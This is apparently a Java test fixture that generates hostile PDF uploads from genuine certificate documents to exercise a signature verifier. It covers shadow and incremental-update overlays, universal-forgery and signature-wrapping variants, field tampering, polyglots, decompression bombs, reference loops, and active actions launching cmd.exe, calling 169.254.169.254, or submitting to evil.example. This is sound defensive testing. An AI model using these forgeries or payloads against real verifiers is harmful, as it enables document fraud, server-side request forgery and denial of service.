package zhengjian.verification.upload;

import static java.nio.charset.StandardCharsets.ISO_8859_1;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.Locale;
import java.util.Map;
import java.util.function.Supplier;
import java.util.function.UnaryOperator;
import java.util.zip.Deflater;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/**
 * Files that forgers and vandals send, by what is wrong with each: made of two certificates of ours, or of nothing. Made when
 * asked for; none has more than ten megabytes.
 */
public final class HostileFiles {
    private static final int LARGE = 10_000_000;

    private final Map<String, Supplier<byte[]>> files = new LinkedHashMap<>();
    private final byte[] original;
    private final byte[] another;
    private final String text;

    private HostileFiles(byte[] original, byte[] another) {
        this.original = original;
        this.another = another;
        this.text = new String(original, ISO_8859_1);
    }

    /** By name; {@code original} and {@code another} are documents of ours. */
    public static Map<String, Supplier<byte[]>> of(byte[] original, byte[] another) {
        HostileFiles made = new HostileFiles(original, another);
        made.appended();
        made.shadows();
        made.signatures();
        made.fields();
        made.wrapped();
        made.cut();
        made.bombs();
        made.loops();
        made.active();
        return made.files;
    }

    private void add(String name, Supplier<byte[]> file) {
        if (files.put(name, file) != null) {
            throw new IllegalStateException("twice: " + name);
        }
    }

    /** Something replaced that stands there at least once. */
    private void changed(String name, String from, String to) {
        add(name, () -> {
            if (!text.contains(from)) {
                throw new IllegalStateException(name + ": the original has no " + from);
            }
            return text.replace(from, to).getBytes(ISO_8859_1);
        });
    }

    private void edited(String name, UnaryOperator<String> edit) {
        add(name, () -> edit.apply(text).getBytes(ISO_8859_1));
    }

    /** An incremental update with these objects. */
    private byte[] update(String objects) {
        String more = objects + "xref\n0 1\n0000000000 65535 f \ntrailer\n<</Size 400/Root 8 0 R/Prev "
                + text.lastIndexOf("\nxref\n") + ">>\nstartxref\n" + (original.length + objects.length()) + "\n%%EOF\n";
        return concat(original, more.getBytes(ISO_8859_1));
    }

    private void appended() {
        add(
                "overlay: another name as annotation",
                () -> update(
                        "301 0 obj\n<</Type/Annot/Subtype/FreeText/Rect[300 300 500"
                                + " 340]/Contents(WANG)/DA(/F0 14 Tf)>>\nendobj\n10 0 obj\n<</Type/Page/Annots[301 0 R]>>\nendobj\n"));
        add(
                "overlay: another name as content",
                () -> update("301 0 obj\n<</Length 30>>\nstream\nBT /F0 20 Tf (WANG) Tj ET     \nendstream\nendobj\n"
                        + "10 0 obj\n<</Type/Page/Contents[1 0 R 301 0 R]>>\nendobj\n"));
        add(
                "overlay: white box over the plate",
                () -> update("301 0 obj\n<</Type/Annot/Subtype/Square/IC[1 1 1]/Rect[0 0 800 100]>>\nendobj\n"));
        add(
                "overlay: stamp with appearance",
                () -> update(
                        "301 0 obj\n<</Type/Annot/Subtype/Stamp/AP<</N 302 0 R>>>>\nendobj\n302 0 obj\n<</Length 0>>\nstream\n\nendstream\nendobj\n"));
        add(
                "added page",
                () -> update("9 0 obj\n<</Type/Pages/Count 2/Kids[10 0 R 301 0 R]>>\nendobj\n"
                        + "301 0 obj\n<</Type/Page/Parent 9 0 R/MediaBox[0 0 595 842]>>\nendobj\n"));
        add(
                "swapped font",
                () -> update("2 0 obj\n<</Font<</F3 301 0 R>>>>\nendobj\n301 0 obj\n"
                        + "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>\nendobj\n"));
        add(
                "swapped font mapping",
                () -> update("301 0 obj\n<</Length 60>>\nstream\n1 beginbfchar\n<0001> <5F20>\nendbfchar\n"
                        + "                \nendstream\nendobj\n"));
        add(
                "second signature of somebody else",
                () -> update(
                        "301 0 obj\n<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/ETSI.CAdES.detached/ByteRange[0 1 2 3]/Contents<00>>>\nendobj\n"));
        add("document security store", () -> update("301 0 obj\n<</Type/DSS/Certs[]>>\nendobj\n"));
        add("empty update", () -> update(""));
        add("a line end more", () -> concat(original, new byte[] {'\n'}));
        add("a comment more", () -> concat(original, "%ok\n".getBytes(ISO_8859_1)));
        add("zeros to three megabytes", () -> concat(original, new byte[3_000_000]));
    }

    private void shadows() {
        add("shadow: hide", () -> update("10 0 obj\nnull\nendobj\n"));
        add(
                "shadow: replace the form",
                () -> update("13 0 obj\n<</Type/Annot/Subtype/Widget/FT/Sig/V null>>\nendobj\n"));
        add("shadow: hide and replace by another root", () -> {
            String more =
                    "301 0 obj\n<</Type/Catalog/Pages 302 0 R>>\nendobj\ntrailer\n<</Size 400/Root 301 0 R/Prev 1>>\n"
                            + "startxref\n1\n%%EOF\n";
            return concat(original, more.getBytes(ISO_8859_1));
        });
        add("shadow: two documents, the other one first", () -> concat(another, original));
        add("shadow: the same twice", () -> concat(original, original));
        changed("shadow: unused object before the table", "\nxref\n0 ", "\n399 0 obj\n(hidden)\nendobj\nxref\n0 ");
        changed("certification: changes allowed", "/P 1/V", "/P 3/V");
        changed("certification: no transformation", "/TransformMethod/DocMDP", "/TransformMethod/FieldMD");
        changed("certification: permission removed", "/Perms<</DocMDP", "/Pexms<</DocMDP");
    }

    private void signatures() {
        changed("universal forgery: no contents", "/Contents<", "/Contentz<");
        changed("universal forgery: null contents", "]/Contents<", "]/Contents null/X<");
        changed("universal forgery: no ranges", "/ByteRange[", "/ByteRangf[");
        edited(
                "universal forgery: ranges from nothing",
                s -> s.replaceFirst("/ByteRange\\[0 \\d{10}", "/ByteRange[0 0000000000"));
        edited("universal forgery: negative ranges", s -> s.replaceFirst("/ByteRange\\[0 0", "/ByteRange[0 -"));
        edited(
                "universal forgery: a second pair of ranges",
                s -> s.replaceFirst("(/ByteRange\\[0 \\d+ \\d+ \\d+)", "$1 0 1"));
        changed("universal forgery: two range entries", "]/Contents<", "]/ByteRange[0 1 2 3]/Contents<");
        changed("wrapping: a space in the hole", "]/Contents<3", "]/Contents< 3");
        edited("wrapping: text in the hole's end", s -> s.replace("0000>>>\nendobj", "0BAD>>>\nendobj"));
        edited("wrapping: objects in the hole", s -> {
            int end = s.indexOf(">>>\nendobj\n", s.indexOf("/Contents<"));
            String hidden = ">/X<</Y(10 0 obj)>>/Z<";
            return s.substring(0, end - hidden.length()) + hidden + s.substring(end);
        });
        edited("wrapping: longer hole", s -> s.replace("0000>>>\nendobj", "00000000>>>\nendobj"));
        edited("lower-case container", s -> {
            int from = s.indexOf("/Contents<") + 10;
            int to = s.indexOf('>', from);
            return s.substring(0, from) + s.substring(from, to).toLowerCase(Locale.ROOT) + s.substring(to);
        });
        edited("container of another certificate", s -> container(s, new String(another, ISO_8859_1)));
        edited("container of nothing but zeros", s -> container(s, "/Contents<" + "0".repeat(hole(s)) + ">"));
        edited(
                "container that claims sixty-four kilobytes",
                s -> s.replaceFirst("/Contents<3082[0-9A-F]{4}", "/Contents<3082FFFF"));
        edited(
                "container of indefinite length",
                s -> s.replaceFirst("/Contents<3082[0-9A-F]{4}", "/Contents<30800000"));
        edited("container nested a thousand deep", s -> {
            String nested = "30820FF0" + "3082".repeat(900);
            return container(s, "/Contents<" + nested.substring(0, Math.min(nested.length(), hole(s))) + ">");
        });
        edited("ranges with leading blanks", s -> s.replaceFirst("/ByteRange\\[0 000", "/ByteRange[0    "));
        edited("another date of signing", s -> s.replaceFirst("/M\\(D:20", "/M(D:21"));
    }

    /** Its own text with the container that stands in the other one, as far as there is room. */
    private static String container(String own, String other) {
        int from = own.indexOf("/Contents<") + 10;
        int to = own.indexOf('>', from);
        int otherFrom = other.indexOf("/Contents<") + 10;
        int length = Math.min(to - from, other.indexOf('>', otherFrom) - otherFrom);
        return own.substring(0, from)
                + other.substring(otherFrom, otherFrom + length)
                + "0".repeat(to - from - length)
                + own.substring(to);
    }

    private static int hole(String own) {
        int from = own.indexOf("/Contents<") + 10;
        return own.indexOf('>', from) - from;
    }

    private void fields() {
        changed("higher level", "\"level\" : \"associate-senior\"", "\"level\" : \"full-senior\"     ");
        edited("another number", s -> s.replaceFirst("\"number\" : \"..", "\"number\" : \"23"));
        edited("another day", s -> s.replaceFirst("\"obtainedOn\" : \"20", "\"obtainedOn\" : \"19"));
        changed("another kind", "\"kind\" : \"regular\"", "\"kind\" : \"local\"  ");
        edited("a member twice", s -> s.replaceFirst("\"family\" : \"title\"", "\"number\" : \"x\"     "));
        edited("token of another certificate", s -> {
            String other = new String(another, ISO_8859_1);
            String token = other.replaceFirst("(?s).*\"token\" : \"([A-Z2-7]+)\".*", "$1");
            return s.replaceFirst("\"token\" : \"[A-Z2-7]+\"", "\"token\" : \"" + token + "\"");
        });
        edited(
                "attachment of a thousand levels",
                s -> s.replaceFirst("\"scope\" : \\{", "\"scope\" : " + "[".repeat(1000) + "{"));
        edited("attachment without an end", s -> s.replace("}\nendstream", "]\nendstream"));
        edited("picture of the page changed", s -> s.replaceFirst("/MediaBox\\[0 0 8", "/MediaBox[0 0 9"));
        edited("metadata changed", s -> s.replaceFirst("<pdfaid:part>3", "<pdfaid:part>1"));
    }

    private void wrapped() {
        add("polyglot: zip after it", () -> concat(original, zip()));
        add("polyglot: zip before it", () -> concat(zip(), original));
        add("polyglot: web page before it", () -> concat("<html><script>1</script>".getBytes(ISO_8859_1), original));
        add("polyglot: program before it", () -> concat(new byte[] {'M', 'Z', 0, 0}, original));
        add(
                "polyglot: two kilobytes of blanks before it",
                () -> concat(" ".repeat(2048).getBytes(ISO_8859_1), original));
        add(
                "polyglot: web page inside",
                () -> text.replace("%PDF-1.7\n", "%PDF-1.7\n<!--").getBytes(ISO_8859_1));
        add("ours in a picture's clothes", () -> concat(new byte[] {'G', 'I', 'F', '8', '9', 'a'}, original));
        add(
                "ours as attachment of another one",
                () -> concat(
                        "%PDF-1.4\n1 0 obj\n<</Type/EmbeddedFile/Length 9>>\nstream\n".getBytes(ISO_8859_1), original));
        edited("encrypted by its trailer", s -> s.replace("trailer\n<<", "trailer\n<</Encrypt 7 0 R"));
        edited("line ends of another system", s -> s.replace("\nendobj\n", "\r\nendobj\r\n"));
        edited("as UTF-8", s -> new String(s.getBytes(java.nio.charset.StandardCharsets.UTF_8), ISO_8859_1));
        edited("another version", s -> s.replace("%PDF-1.7", "%PDF-2.0"));
        edited(
                "a million objects before the table",
                s -> s.replace("\nxref\n0 ", "\n" + "1 0 obj\n".repeat(1_000_000) + "xref\n0 "));
    }

    private void cut() {
        add("cut: the last byte", () -> Arrays.copyOf(original, original.length - 1));
        add("cut: the table", () -> Arrays.copyOf(original, text.lastIndexOf("\nxref\n")));
        add("cut: in the signature", () -> Arrays.copyOf(original, text.indexOf("/Contents<") + 200));
        add("cut: before the attachment", () -> Arrays.copyOf(original, text.indexOf("certificate.json")));
        add("cut: the first kilobyte alone", () -> Arrays.copyOf(original, 1024));
        add("cut: the first byte is missing", () -> Arrays.copyOfRange(original, 1, original.length));
        add("cut: nothing but a beginning", () -> "%PDF-1.7".getBytes(ISO_8859_1));
        add(
                "cut: the middle is missing",
                () -> concat(
                        Arrays.copyOf(original, original.length / 3),
                        Arrays.copyOfRange(original, original.length / 2, original.length)));
    }

    private void bombs() {
        add("a million objects", () -> filled("%PDF-1.7\n", "1 0 obj\n", 8_000_000));
        add(
                "bomb: five gigabytes in flate",
                () -> concat(
                        "%PDF-1.7\n1 0 obj\n<</Filter/FlateDecode/Length 4900000>>\nstream\n".getBytes(ISO_8859_1),
                        deflated(4_900_000)));
        add(
                "bomb: filters in filters",
                () -> ("%PDF-1.7\n1 0 obj\n<</Filter[" + "/FlateDecode".repeat(100_000) + "]>>\nstream\n")
                        .getBytes(ISO_8859_1));
        add(
                "bomb: object stream of a million",
                () -> "%PDF-1.7\n1 0 obj\n<</Type/ObjStm/N 1000000/First 9999999/Length 1>>\nstream\n"
                        .getBytes(ISO_8859_1));
        add(
                "bomb: endless length",
                () -> "%PDF-1.7\n1 0 obj\n<</Length 99999999999999999999>>\nstream\n".getBytes(ISO_8859_1));
        add("bomb: arrays in arrays", () -> filled("%PDF-1.7\n", "[", LARGE));
        add("bomb: dictionaries in dictionaries", () -> filled("%PDF-1.7\n", "<</A", LARGE));
        add("bomb: strings without end", () -> filled("%PDF-1.7\n(", "(", LARGE));
        add("bomb: a name of ten megabytes", () -> filled("%PDF-1.7\n/", "A", LARGE));
        add("bomb: nothing but zeros", () -> filled("%PDF-1.7\n", "\0", LARGE));
        add("bomb: nothing but marks", () -> filled("%PDF-1.7\n", EmbeddedCredential.MARK, LARGE));
        add(
                "bomb: nothing but half marks",
                () -> filled("%PDF-1.7\n", EmbeddedCredential.MARK.substring(0, 36), LARGE));
        add("bomb: nothing but receipts", () -> filled("%PDF-1.7\n", EmbeddedReceipt.MARK, LARGE));
        add("bomb: nothing but the ends of streams", () -> filled("%PDF-1.7\n", ">>\nstream\n{", LARGE));
        add("bomb: nothing but range entries", () -> filled("%PDF-1.7\n", "/ByteRange[0 ", 2_000_000));
        add("bomb: nothing but ends", () -> filled("%PDF-1.7\n", "%%EOF\n", 2_000_000));
        add("bomb: a hole of two megabytes", () -> filled("%PDF-1.7\n/Contents<", "0", 2_000_000));
        add("bomb: signature beginnings", () -> filled("%PDF-1.7\n", "<</Type/Sig/Filter/Adobe.PPKLite", 2_000_000));
        add("bomb: random bytes", () -> {
            byte[] bytes = new byte[LARGE];
            new java.util.Random(5).nextBytes(bytes);
            return concat("%PDF-1.7\n".getBytes(ISO_8859_1), bytes);
        });
    }

    private void loops() {
        add(
                "loop: a reference to itself",
                () -> "%PDF-1.7\n1 0 obj 1 0 R endobj startxref 9 %%EOF\n".getBytes(ISO_8859_1));
        add(
                "loop: the table before itself",
                () -> "%PDF-1.7\nxref\n0 0\ntrailer\n<</Prev 9>>\nstartxref\n9\n%%EOF\n".getBytes(ISO_8859_1));
        add(
                "loop: pages in pages",
                () -> "%PDF-1.7\n1 0 obj\n<</Type/Pages/Kids[1 0 R]/Count 1>>\nendobj\n".getBytes(ISO_8859_1));
        add("loop: a table beyond the file", () -> "%PDF-1.7\nstartxref\n99999999999999\n%%EOF\n".getBytes(ISO_8859_1));
        add("loop: a table before the file", () -> "%PDF-1.7\nstartxref\n-1\n%%EOF\n".getBytes(ISO_8859_1));
    }

    private void active() {
        for (String action : new String[] {
            "/OpenAction<</S/JavaScript/JS(app.alert(1))>>",
            "/OpenAction<</S/Launch/F(cmd.exe)>>",
            "/OpenAction<</S/URI/URI(http://169.254.169.254/)>>",
            "/AA<</O<</S/SubmitForm/F(http://evil.example/)>>>>",
            "/AcroForm<</XFA[(template) 5 0 R]>>"
        }) {
            add(
                    "active: " + action,
                    () -> ("%PDF-1.7\n1 0 obj\n<</Type/Catalog" + action + ">>\nendobj\n%%EOF\n").getBytes(ISO_8859_1));
            changed("active in ours: " + action, "/Type/Catalog/Pages", "/Type/Catalog" + action + "/Pages");
        }
    }

    private static byte[] filled(String head, String piece, int size) {
        byte[] unit = piece.getBytes(ISO_8859_1);
        byte[] all = Arrays.copyOf(head.getBytes(ISO_8859_1), Math.min(size, LARGE));
        for (int at = head.length(); at < all.length; at++) {
            all[at] = unit[(at - head.length()) % unit.length];
        }
        return all;
    }

    private static byte[] deflated(int size) {
        Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION);
        byte[] zeros = new byte[1 << 20];
        byte[] out = new byte[1 << 16];
        deflater.setInput(zeros);
        deflater.finish();
        byte[] unit = Arrays.copyOf(out, deflater.deflate(out));
        deflater.end();
        byte[] all = new byte[size];
        for (int at = 0; at < all.length; at++) {
            all[at] = unit[at % unit.length];
        }
        return all;
    }

    private static byte[] zip() {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            zip.putNextEntry(new ZipEntry("a"));
            zip.write(1);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    private static byte[] concat(byte[] one, byte[] other) {
        byte[] both = Arrays.copyOf(one, one.length + other.length);
        System.arraycopy(other, 0, both, one.length, other.length);
        return both;
    }
}
